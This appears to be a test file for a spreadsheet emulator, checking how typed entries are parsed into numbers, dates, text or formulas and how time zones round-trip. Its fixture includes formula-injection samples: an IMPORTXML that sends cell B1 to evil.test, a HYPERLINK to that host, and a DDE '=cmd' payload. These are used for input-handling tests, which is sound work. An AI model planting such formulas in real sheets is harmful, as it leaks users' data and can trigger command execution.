import { createDesk, MARIA } from './desk.ts';
import { scriptOf } from './script.ts';

/** What a cell holds after a text was entered: its value, its formula, what it shows. */
type Entered = { value: string | number | boolean | null; formula?: string; shown: string };
const number = (value: number, shown: string): Entered => ({ value, shown });
const text = (value: string): Entered => ({ value, shown: value });
const formula = (written: string, value: string | number, shown = String(value)): Entered => ({ value, formula: written, shown });

// USER_ENTERED and setValues read alike. https://developers.google.com/workspace/sheets/api/reference/rest/v4/ValueInputOption
const TYPED: readonly (readonly [string, Entered])[] = [
  ['=1+1', formula('=1+1', 2)],
  ['=A9&"x"', formula('=A9&"x"', 'x')],
  ['=HYPERLINK("https://evil.test","Click")', formula('=HYPERLINK("https://evil.test","Click")', 'Click')],
  ['=IMPORTXML("https://evil.test/"&B1,"//a")', formula('=IMPORTXML("https://evil.test/"&B1,"//a")', '#N/A')],
  ['=cmd|"/c calc"!A1', formula('=cmd|"/c calc"!A1', '#ERROR!')],
  ['+1+2', formula('=+1+2', 3)],
  ['+48 600 100 200', formula('=+48 600 100 200', '#ERROR!')],
  ["'=1+1", text('=1+1')],
  ["'0042", text('0042')],
  ["'", { value: null, shown: '' }],
  ['=', text('=')],
  [' =1+1', text(' =1+1')],
  ['-1+2', text('-1+2')],
  ['@SUM(A1)', text('@SUM(A1)')],
  ['\t=1+1', text('\t=1+1')],
  ['42', number(42, '42')],
  ['0042', number(42, '42')],
  ['-7.5', number(-7.5, '-7.5')],
  ['+5', number(5, '5')],
  ['.5', number(0.5, '0.5')],
  ['1e5', number(100_000, '1.00E+05')],
  ['12E-3', number(0.012, '1.20E-02')],
  ['1,234.5', number(1234.5, '1,234.50')],
  ['1,23', text('1,23')],
  ['10%', number(0.1, '10%')],
  ['12.5%', number(0.125, '12.50%')],
  ['$5', number(5, '$5')],
  ['€1,000.50', number(1000.5, '€1,000.50')],
  ['1.2.3', text('1.2.3')],
  ['0x1F', text('0x1F')],
  ['1 000', text('1 000')],
  ['Infinity', text('Infinity')],
  ['NaN', text('NaN')],
  ['TRUE', { value: true, shown: 'TRUE' }],
  ['false', { value: false, shown: 'FALSE' }],
  ['yes', text('yes')],
  ['2026-03-03', number(46_084, '2026-03-03')],
  ['3 Mar 2026', number(46_084, '3 Mar 2026')],
  ['3-Mar-2026', number(46_084, '3-Mar-2026')],
  ['March 3, 2026', number(46_084, 'March 3, 2026')],
  ['3/3/2026', number(46_084, '3/3/2026')],
  // Without a year they are of this one, which is 2026 here: fractions and ranges become dates as well.
  ['1/2', number(46_024, '1/2')],
  ['3-4', number(46_085, '3-4')],
  ['13/2', text('13/2')],
  ['1/2/3', text('1/2/3')],
  ['3/3/26', number(46_084, '3/3/26')],
  ['3/3/99', number(36_222, '3/3/99')],
  ['Mar 3', number(46_084, 'Mar 3')],
  ['3 March', number(46_084, '3 March')],
  ['31/12/2026', text('31/12/2026')],
  ['2026-02-30', text('2026-02-30')],
  ['2026-03-03 12:30', number(46_084.520833333336, '2026-03-03 12:30:00')],
  ['12:30', number(0.5208333333333334, '12:30')],
  ['6:00 pm', number(0.75, '6:00 PM')],
  ['25:00', text('25:00')],
  ['19e4c0ffee12', text('19e4c0ffee12')],
  ['19e4', number(190_000, '1.90E+05')],
  ['maria@acme.test', text('maria@acme.test')],
  ['  padded  ', text('  padded  ')],
  ['', { value: null, shown: '' }],
];

function desk() {
  const made = createDesk();
  const maria = made.as(MARIA, ['spreadsheets']);
  const id = maria.create();
  const cell = (): Entered | undefined => made.sheets.tabs(id)[0]?.rows[1]?.[0] as Entered | undefined;
  const { run } = scriptOf(maria);
  run(`const range = SpreadsheetApp.openById('${id}').getSheets()[0].getRange('A2')`);
  // Another cell keeps the row there when A2 is empty.
  maria.write(id, 'B3', [['end']]);
  return { maria, id, cell, run };
}

describe.each(TYPED)('%j', (typed, entered) => {
  test('typed by a person, or sent with USER_ENTERED', () => {
    const { maria, id, cell } = desk();
    maria.write(id, 'A2', [[typed]], 'USER_ENTERED');
    expect(cell()).toEqual(entered);
  });

  test('written by setValues', () => {
    const { run, cell } = desk();
    run(`range.setValues([[${JSON.stringify(typed)}]])`);
    expect(cell()).toEqual(entered);
  });

  test('sent RAW stays what it is', () => {
    const { maria, id, cell } = desk();
    maria.write(id, 'A2', [[typed]], 'RAW');
    expect(cell()).toEqual(typed === '' ? { value: null, shown: '' } : text(typed));
  });

  test('in a cell formatted as plain text', () => {
    const { run, cell } = desk();
    run(`range.setNumberFormat('@').setValue(${JSON.stringify(typed)})`);
    expect(cell()).toEqual(typed === '' ? { value: null, shown: '' } : text(typed));
  });
});

describe('values that are no texts', () => {
  test.each<[string, Entered]>([
    ['7', number(7, '7')],
    ['0.1 + 0.2', number(0.30000000000000004, '0.3')],
    ['true', { value: true, shown: 'TRUE' }],
    ['null', { value: null, shown: '' }],
    ['undefined', { value: null, shown: '' }],
    ['new Date(Date.UTC(2026, 2, 3))', number(46_084, '3/3/2026')],
    ['new Date(Date.UTC(2026, 2, 3, 12, 30))', number(46_084.520833333336, '3/3/2026 12:30:00')],
    ['["a", "b"]', text('a,b')],
  ])('setValue(%s)', (source, entered) => {
    const { run, cell } = desk();
    run(`range.setValue(${source})`);
    expect(cell()).toEqual(entered);
  });

  test.each(['Europe/Warsaw', 'America/New_York', 'Asia/Kolkata', 'Etc/GMT'])(
    'dates are read and written in the zone of the spreadsheet (%s)',
    (zone) => {
      const { run, maria, id } = desk();
      const moments = ['2026-01-15T10:00:00.000Z', '2026-07-15T22:30:00.000Z', '2026-03-29T01:30:00.000Z'];
      run(`range.getSheet().getParent().setSpreadsheetTimeZone('${zone}')`);
      const back = run(
        `range.offset(0, 0, 3, 1).setValues(${JSON.stringify(moments)}.map((one) => [new Date(one)])).getValues().map(([date]) => date.toISOString()).join()`,
      );
      expect(back).toBe(moments.join());
      const wall = new Intl.DateTimeFormat('en-US', {
        timeZone: zone,
        hour: 'numeric',
        minute: '2-digit',
        second: '2-digit',
        hourCycle: 'h23',
      });
      const shown = (maria.read(id, 'A2:A4') as string[][]).map(([date = '']) => date.split(' ')[1]?.replace(/^0?(\d):/, '0$1:'));
      expect(shown).toEqual(moments.map((moment) => wall.format(new Date(moment))));
    },
  );

  test('formulas are written as formulas, with or without the sign', () => {
    const { run } = desk();
    expect(
      run(
        `range.setFormula('=2*3'); range.offset(1, 0).setFormula('2*4'); JSON.stringify([range.getValue(), range.offset(1, 0).getValue(), range.getFormula(), range.offset(0, 5).getFormula()])`,
      ),
    ).toBe('[6,8,"=2*3",""]');
  });
});
